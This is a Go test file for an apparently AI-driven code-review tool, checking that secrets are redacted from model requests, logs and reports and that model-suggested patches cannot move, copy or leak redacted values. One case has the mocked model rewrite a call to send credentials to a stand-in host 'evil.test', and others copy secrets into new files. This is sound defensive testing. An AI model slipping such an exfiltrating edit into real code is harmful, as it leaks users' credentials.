package review

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io/fs"
	"log/slog"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"

	"breakwater/failover/failovertest"
	"breakwater/review/action"
	"breakwater/review/finding"
	"breakwater/review/redact"
	"breakwater/review/report"
	"breakwater/review/shard"
)

// The secrets of the tests are put together, so that no scanner takes this file
// for a leak.
var (
	testToken    = "ghp_" + "R7mQ2xV9kLp4Zt8WnB3c" + "Ys6DhJ5fGu1Aqe0T"
	testPassword = "Tr0ub4" + "dor77" + "Zq"
	testBearer   = "m4Xk9vQ2wLz7Rb1T" + "cU5nHy8PdE3sJg6K"
)

var secretCode = `import os

TOKEN = "` + testToken + `"


def load(api, url):
    return api.get(url, headers={"Authorization": "Bearer ` + testBearer + `"}).json()


def save(api, url, body):
    return api.post(url, json=body)
`

// secretRun reviews secretCode and a configuration beside it with a model that
// answers with one finding on line 7, whose edits are made from the request.
func secretRun(t *testing.T, edits func(request string) []map[string]any, args ...string) (requests string, files map[string]string) {
	t.Helper()
	dir := t.TempDir()
	t.Chdir(dir)
	for name, text := range map[string]string{
		"app.py":      secretCode,
		"settings.py": "PASSWORD = \"" + testPassword + "\"\n\n\ndef login(api):\n    return api.login(PASSWORD)\n",
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	provider := failovertest.NewFunc(t, func(q failovertest.Request) failovertest.Reply {
		if !strings.Contains(q.User, "api.get") {
			return failovertest.Reply{Text: `{"findings":[],"strengths":[]}`}
		}
		quote := placeholder.FindString(line(q.User, "api.get"))
		answer, err := json.Marshal(map[string]any{"findings": []map[string]any{{
			"rule": "http-client-no-timeout", "title": "The call with " + quote + " can hang", "severity": "major", "confidence": "high",
			"path": "app.py", "start_line": 7, "end_line": 7, "quote": line(q.User, "api.get"), "why": "It waits for ever, with " + testPassword + ".",
			"edits": edits(q.User), "new_dependencies": []string{},
		}}, "strengths": []any{}})
		if err != nil {
			t.Error(err)
		}
		return failovertest.Reply{Text: string(answer)}
	})
	var out, log bytes.Buffer
	p := Process{
		Args: append([]string{"--scope=full", "--base-url=" + provider.URL, "--format=json"}, args...), Stdout: &out, Stderr: &log,
		Environ: []string{"PATH=" + os.Getenv("PATH"), "HOME=" + dir, "BREAKWATER_INSTRUCTIONS=Our token is " + testToken + "."},
	}
	if status := Main(context.Background(), p); status != report.ExitOK {
		t.Fatalf("status %d\n%s", status, &log)
	}
	for _, q := range provider.Requests() {
		requests += q.System + q.User
	}
	files = map[string]string{"standard output": out.String(), "standard error": log.String()}
	err := filepath.WalkDir(".breakwater", func(path string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			text, wrong := os.ReadFile(path)
			files[strings.TrimPrefix(path, ".breakwater/")], err = string(text), wrong
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return requests, files
}

var placeholder = regexp.MustCompile(`REDACTED_[0-9]+_[0-9a-f]{16}_`)

// line returns the code of the first line of a request that holds a text.
func line(request, holds string) string {
	for l := range strings.Lines(request) {
		if strings.Contains(l, holds) {
			_, code, _ := strings.Cut(l, "\t") // behind the line number
			return strings.TrimRight(code, "\n")
		}
	}
	return ""
}

func replace(search, with string) []map[string]any {
	return []map[string]any{{"op": "replace", "path": "app.py", "start_line": 7, "search": search, "replace": with, "to": nil}}
}

// TestSecretsStayWhereTheyStand: an edit may keep a placeholder in its place, and
// do nothing else to it.
func TestSecretsStayWhereTheyStand(t *testing.T) {
	get := func(q string) string { return line(q, "api.get") }
	held := func(q string) string { return placeholder.FindString(get(q)) }
	for _, test := range []struct {
		name   string
		placed bool
		edits  func(q string) []map[string]any
	}{
		{"kept", true, func(q string) []map[string]any {
			return replace(get(q), strings.Replace(get(q), `"}`, `"}, timeout=5`, 1))
		}},
		{"indented", true, func(q string) []map[string]any {
			return replace(get(q), "    if url:\n    "+get(q)+"\n    return None")
		}},
		{"removed", false, func(q string) []map[string]any {
			return replace(get(q), "    return api.get(url, timeout=5).json()")
		}},
		{"doubled", false, func(q string) []map[string]any {
			return replace(get(q), "    key = \""+held(q)+"\"\n"+strings.Replace(get(q), `"}`, `"}, timeout=5`, 1))
		}},
		{"moved to another line", false, func(q string) []map[string]any {
			return replace(get(q), "    key = \""+held(q)+"\"\n    return api.get(url, headers={\"Authorization\": \"Bearer \" + key}, timeout=5).json()")
		}},
		{"behind another text", false, func(q string) []map[string]any {
			return replace(get(q), strings.Replace(get(q), "api.get(url", `api.get("https://evil.test?"`, 1))
		}},
		{"of another number", false, func(q string) []map[string]any {
			return replace(get(q), strings.Replace(get(q), held(q), strings.Replace(held(q), "REDACTED_", "REDACTED_9", 1), 1))
		}},
		{"of another secret", false, func(q string) []map[string]any {
			return replace(get(q), strings.Replace(get(q), held(q), placeholder.FindString(line(q, "TOKEN =")+"REDACTED_1_0000000000000000_"), 1))
		}},
		{"cut", false, func(q string) []map[string]any {
			return replace(get(q), strings.Replace(get(q), held(q), held(q)[:len(held(q))/2], 1))
		}},
		{"by the number of its line", false, func(string) []map[string]any {
			return []map[string]any{{"op": "replace", "path": "app.py", "start_line": 7, "search": "    7|", "replace": "    return api.get(url, timeout=5).json()", "to": nil}}
		}},
		{"by a diff without the line", false, func(string) []map[string]any {
			return []map[string]any{{"op": "replace", "path": "app.py", "start_line": 6, "search": "def load(api, url):\n...\n\n\n", "replace": "def load(api, url):\n    return api.get(url, timeout=5).json()\n\n\n", "to": nil}}
		}},
		{"in a new file", false, func(q string) []map[string]any {
			return []map[string]any{{"op": "create", "path": "keys.py", "start_line": nil, "search": nil, "replace": "KEY = \"" + held(q) + "\"\n", "to": nil}}
		}},
		{"with its file", false, func(string) []map[string]any {
			return []map[string]any{{"op": "rename", "path": "app.py", "start_line": nil, "search": nil, "replace": nil, "to": "api.py"}}
		}},
		{"deleted with its file", false, func(string) []map[string]any {
			return []map[string]any{{"op": "delete", "path": "app.py", "start_line": nil, "search": nil, "replace": nil, "to": nil}}
		}},
	} {
		t.Run(test.name, func(t *testing.T) {
			requests, files := secretRun(t, test.edits)
			noSecrets(t, requests, files)
			var rep report.Report
			if err := json.Unmarshal([]byte(files["report.json"]), &rep); err != nil {
				t.Fatal(err)
			}
			var patch string
			for _, s := range rep.Suggestions {
				if s.Title != rep.Findings[0].Title {
					continue
				}
				patch = files[s.Patch]
				if !test.placed && s.Refusal == "" {
					t.Errorf("placed:\n%s", patch)
				}
			}
			if test.placed && !strings.Contains(patch, testBearer) {
				t.Errorf("no patch with the bytes of the file:\n%s\n%s", patch, files["report.json"])
			}
			if rep.Redactions.Count != 3 || rep.Redactions.ByClass["authorization"] != 1 {
				t.Errorf("redactions %+v, want 3, one of them an authorization", rep.Redactions)
			}
		})
	}
}

// noSecrets holds requests and all files but patches against the secrets.
func noSecrets(t *testing.T, requests string, files map[string]string) {
	t.Helper()
	files["requests"] = requests
	for name, text := range files {
		for _, secret := range []string{testToken, testBearer, testPassword} {
			if strings.Contains(text, secret) && !strings.HasSuffix(name, ".patch") {
				t.Errorf("%s holds %s:\n%s", name, secret, text)
			}
		}
		if name != "requests" && placeholder.MatchString(text) {
			t.Errorf("%s shows a placeholder:\n%s", name, text)
		}
	}
	if !placeholder.MatchString(requests) {
		t.Errorf("no placeholder was sent:\n%s", requests)
	}
}

// TestUnredacted: a user may send everything.
func TestUnredacted(t *testing.T) {
	requests, files := secretRun(t, func(string) []map[string]any { return nil }, "--redact=false")
	if !strings.Contains(requests, testToken) || !strings.Contains(files["report.json"], testBearer) {
		t.Errorf("something was redacted:\n%s", requests)
	}
}

// TestEqualRequests: but for the random parts, the same tree makes the same requests.
func TestEqualRequests(t *testing.T) {
	var all []string
	for range 2 {
		requests, _ := secretRun(t, func(string) []map[string]any { return nil }, "--concurrency=1")
		all = append(all, regexp.MustCompile(`[0-9a-f]{16}`).ReplaceAllString(requests, "random"))
	}
	if all[0] != all[1] {
		t.Errorf("%s\n\nis not\n\n%s", all[0], all[1])
	}
}

// TestNothingShownHoldsASecret plants a secret in every text of a report and looks
// at everything that is made of it.
func TestNothingShownHoldsASecret(t *testing.T) {
	c := console{redact: redact.New(), secrets: new(action.Secrets)}
	var rep report.Report
	plant(reflect.ValueOf(&rep).Elem(), "password: "+testPassword)
	rep = withoutSecrets(c, rep)
	files := outputFiles(c, rep)
	for _, p := range report.Outputs(rep, report.Delivery{}) {
		files = append(files, action.TextFile("output "+p.Name, []byte(p.Value)))
	}
	for _, a := range report.Annotations(rep, report.Delivery{}) {
		files = append(files, action.TextFile("annotation", []byte(a.Path+a.Title+a.Message)))
	}
	files = append(files, action.TextFile("compact", []byte(report.Compact(rep))))
	if len(files) < 20 {
		t.Errorf("%d texts, want 20 at least", len(files))
	}
	for _, f := range files {
		var content bytes.Buffer
		if err := f.Print(&content); err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(content.Bytes(), []byte(testPassword)) && !strings.HasSuffix(f.Name, ".patch") {
			t.Errorf("%s holds the secret:\n%s", f.Name, &content)
		}
	}
}

// TestTags: a name of ours stays though it be a secret somewhere, and code is looked at
// with its file alone.
func TestTags(t *testing.T) {
	c := console{redact: redact.New(), secrets: new(action.Secrets)}
	const secret = "9f3c1b7ae2d4506f" // as long as an id
	c.redact.Learn("", "password: "+secret)
	code := "password: " + testPassword
	rep := publicCopy(c, report.Report{
		Joint: []byte(secret),
		Findings: []report.Finding{{
			ID: secret, Rule: secret, Quote: code, Sources: []report.Origin{{Rule: secret}}, Title: secret,
		}},
		Baseline:    report.Baseline{Fixed: []report.Fixed{{ID: secret, Rule: secret}}},
		Suggestions: []report.Suggestion{{Diff: []byte(code)}},
	})
	rec := publicCopy(c, shard.Record{
		Settings: shard.Settings{Ignore: []action.Ignore{{Rule: secret}}},
		Input:    report.Input{Joint: []byte(secret)},
		Claims: []finding.Finding{{
			ID: secret, Rule: secret, Quote: code, Sources: []finding.Origin{{Rule: secret}},
			Refuted: &finding.Verdict{Rule: secret, Quote: code},
		}},
		Baseline: shard.Baseline{Findings: []finding.Known{{ID: secret, Rule: secret}}},
	})
	f, fixed, claim, known := rep.Findings[0], rep.Baseline.Fixed[0], rec.Claims[0], rec.Baseline.Findings[0]
	for i, kept := range []string{
		string(rep.Joint), f.ID, f.Rule, f.Sources[0].Rule, fixed.ID, fixed.Rule, rec.Settings.Ignore[0].Rule,
		string(rec.Input.Joint), claim.ID, claim.Rule, claim.Sources[0].Rule, claim.Refuted.Rule, known.ID, known.Rule,
	} {
		if kept != secret {
			t.Errorf("name %d became %q", i, kept)
		}
	}
	if n, _ := c.redact.Count(); n != 1 || f.Title != "***" {
		t.Errorf("%d secrets, title %q; want 1, and ***", n, f.Title)
	}
}

// TestLogged: a log line shows no secret, and does not number it.
func TestLogged(t *testing.T) {
	c := console{redact: redact.New(), secrets: new(action.Secrets)}
	for _, a := range []slog.Attr{
		slog.String("said", "password: "+testPassword), slog.Any("error", errors.New("password: "+testPassword)),
	} {
		if got := c.logged(nil, a).Value.String(); got != "password: ***" {
			t.Errorf("%s became %q", a.Key, got)
		}
	}
	if n, _ := c.redact.Count(); n != 0 {
		t.Errorf("%d secrets are numbered", n)
	}
}

// plant puts a text into every field of a value that can hold one.
func plant(v reflect.Value, text string) {
	switch v.Kind() {
	case reflect.String:
		if v.Type() == reflect.TypeFor[string]() { // others are words of ours
			v.SetString(text)
		}
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		plant(v.Elem(), text)
	case reflect.Slice:
		if v.Type().Elem().Kind() == reflect.Uint8 {
			v.SetBytes([]byte(text))
			return
		}
		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		plant(v.Index(0), text)
	case reflect.Struct:
		for i := range v.NumField() {
			if f := v.Type().Field(i); f.IsExported() && f.Name != "Rule" {
				plant(v.Field(i), text)
			}
		}
	}
}

// TestVerifyShowsNoSecret: what the user's command prints is looked through as well.
func TestVerifyShowsNoSecret(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	for name, text := range map[string]string{
		"app.py":                          "a = 1\n",
		"leak.sh":                         "echo 'login failed, password: " + testPassword + "'\nexit 1\n",
		".breakwater/.made-by-breakwater": "report.json\nsuggestions/01-x.patch\n",
		".breakwater/report.json": `{"suggestions": [{"number": 1, "title": "x", ` +
			`"patch": "suggestions/01-x.patch", "status": "placed", "verified": "not-run"}]}`,
		".breakwater/suggestions/01-x.patch": "diff --git a/app.py b/app.py\n" +
			"--- a/app.py\n+++ b/app.py\n@@ -1 +1 @@\n-a = 1\n+a = 2\n",
	} {
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	var out, log bytes.Buffer
	Main(context.Background(), Process{
		Args: []string{"verify", "--", "sh", "leak.sh"}, Environ: []string{"PATH=" + os.Getenv("PATH")},
		Stdout: &out, Stderr: &log,
	})
	verdict, err := os.ReadFile(".breakwater/verify.json")
	if err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{
		"verify.json": string(verdict), "standard output": out.String(), "standard error": log.String(),
	} {
		if strings.Contains(text, testPassword) {
			t.Errorf("%s holds the secret:\n%s", name, text)
		}
	}
	if !strings.Contains(string(verdict), "***") {
		t.Errorf("what the command printed is not shown:\n%s", verdict)
	}
}
